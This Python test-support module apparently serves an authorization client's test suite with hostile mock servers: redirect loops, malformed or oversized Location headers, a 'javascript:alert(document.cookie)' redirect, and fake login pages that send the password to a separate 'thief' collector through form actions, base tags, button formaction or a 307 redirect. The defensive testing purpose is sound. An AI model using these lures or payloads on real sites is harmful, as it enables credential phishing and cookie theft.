"""Lies whose harm is in where they lead: in circles, away with a password, or to a place that is none."""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import contextmanager
from urllib.parse import parse_qsl

from .fronting import at_front
from .hostile_words import WORDS
from .identity import HOME, OWNER
from .null_front import HTML
from .saying import NO_STORE, said
from .seen import Seen
from .serving import Answer, answering, serve
from .words import asked_for, in_all_words

HUGE = 100_000


def _circle(seen: Seen) -> Iterable[bytes]:
    there = "/authorize/b" if seen.path.endswith("/a") else "/authorize/a"
    return (said(302, b"", None, NO_STORE, f"Location: {there}"),)


def _spiral(seen: Seen) -> Iterable[bytes]:
    # Every place is a new one, and the cookie too.
    turn = len(seen.path) % 50_000
    lines = (f"Location: {seen.path}x", f"Set-Cookie: turn=t{turn}")
    return (said(302, b"", None, NO_STORE, *lines),)


def _to(location: str, *lines: str) -> Answer:
    def answer(seen: Seen) -> Iterable[bytes]:
        state = asked_for(dict(parse_qsl(seen.query)), "state") or ""
        return (said(302, b"", None, NO_STORE, f"Location: {location.replace('{state}', state)}", *lines),)

    return at_front(answer)


def _home(code: str, state: str = "{state}") -> str:
    given = in_all_words({"code": code, "state": state})
    return f"{HOME}?{'&'.join(f'{name}={value}' for name, value in given.items())}"


_CODES = ["code=aLiarsCode", "wrap_verification_code=aLiarsCode"] * 1_500

WAYS: Mapping[str, Answer] = {
    "circle": at_front(_circle),
    "spiral": at_front(_spiral),
    "location-controls": _to(_home("a\x01\x0b\x1b[2J\x7f\tb\0")),
    "location-invalid-utf8": _to(_home("\udcff\udcc0\udcaf", "{state}\udcff%ff%C0%AF%zz")),
    "location-huge": _to(_home("c" * HUGE)),
    "location-words": _to(f"{_home(WORDS)}&error={WORDS}&wrap_error_reason={WORDS}&{WORDS}={WORDS}#{WORDS}"),
    "location-broken": _to("https://[client.example/cb?code=aLiarsCode&state={state}"),
    "location-port": _to("https://client.example:99999999/cb?code=aLiarsCode&state={state}"),
    "location-empty": _to(""),
    "location-twice": _to(_home("aLiarsCode"), f"Location: {HOME}?error=user_denied&wrap_error_reason=user_denied"),
    "location-script": _to("javascript:alert(document.cookie)//?code=aLiarsCode&state={state}"),
    "location-many-codes": _to(_home("&".join(["aLiarsCode", *_CODES]))),
}

Lure = Callable[[str], Answer]
_FIELDS = '<input name="username"><input name="password" type="password"><button{more}>Sign in</button>'


def _lure(before: str, more: str = "") -> Lure:
    """A login page, in whose markup `{thief}` is the origin of another server, `{host}` that without its scheme."""

    def for_thief(thief: str) -> Answer:
        form = f"<!DOCTYPE html><title>Sign in</title>{before}{_FIELDS.format(more=more)}</form>"
        form = form.replace("{thief}", thief).replace("{host}", thief.removeprefix("http://"))
        octets = said(200, form.encode(), HTML, NO_STORE)
        return at_front(lambda _: (octets,))

    return for_thief


def _passed_on(thief: str) -> Answer:
    # 307 keeps the method and the body, and the password in it.
    def answer(seen: Seen) -> Iterable[bytes]:
        if seen.method == "POST":
            return (said(307, b"", None, f"Location: {thief}/collect"),)
        form = f'<title>Sign in</title><form method="post">{_FIELDS.format(more="")}</form>'
        return (said(200, form.encode(), HTML, NO_STORE),)

    return at_front(answer)


LURES: Mapping[str, Lure] = {
    "login-at-thief": _lure('<form method="post" action="{thief}/collect">'),
    "login-at-thief-by-get": _lure('<form action="{thief}/collect">'),
    "login-at-thief-without-scheme": _lure('<form method="post" action="//{host}/collect">'),
    "login-at-thief-by-base": _lure('<base href="{thief}/"><form method="post" action="collect">'),
    "login-at-thief-by-button": _lure('<form method="post">', ' formaction="{thief}/collect"'),
    "login-at-thief-passed-on": _passed_on,
}


class StolenError(AssertionError):
    """The other server got a request; its text says which, the password left out."""


@contextmanager
def lured(lure: Lure) -> Iterator[str]:
    """The base URL of a server with such a page. Leaving it raises StolenError if the other server got anything."""
    stolen: list[str] = []

    def collect(seen: Seen) -> Iterable[bytes]:
        loot = OWNER["password"] in str(parse_qsl(seen.query)) + str(seen.form)
        stolen.append(f"{seen.method} {seen.path} {'with' if loot else 'without'} the password")
        return (said(200),)

    with serve(answering(collect)) as thief, serve(answering(lure(thief))) as url:
        yield url
    if stolen:
        raise StolenError("; ".join(stolen))
